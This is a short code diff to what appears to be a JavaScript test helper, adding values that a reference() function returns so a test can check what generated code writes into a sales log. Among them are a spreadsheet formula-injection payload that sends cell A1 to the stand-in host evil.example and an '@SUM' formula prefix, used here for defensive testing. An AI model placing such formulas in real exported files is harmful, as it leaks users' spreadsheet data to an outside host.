@@ -19,7 +19,17 @@ function valid(code, gotAccount, gotSecret) {
         && credentials.some(([account, secret]) => account === gotAccount && secret === gotSecret);
 }
 
+// Codes naming a hostile reference get it, so a test sees what the generated code writes into the sales log.
 function reference(code) {
+    if (code.includes('ACCENT')) {
+        return 'A'.repeat(127) + '\u00e9' + 'B'.repeat(20); // the accent's two bytes straddle byte 128
+    }
+    if (code.includes('FORMULA')) {
+        return '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    }
+    if (code.includes('ATSIGN')) {
+        return '@SUM(1+1)';
+    }
     return 'TX-' + Buffer.from(code).toString('hex').slice(0, 12);
 }
 
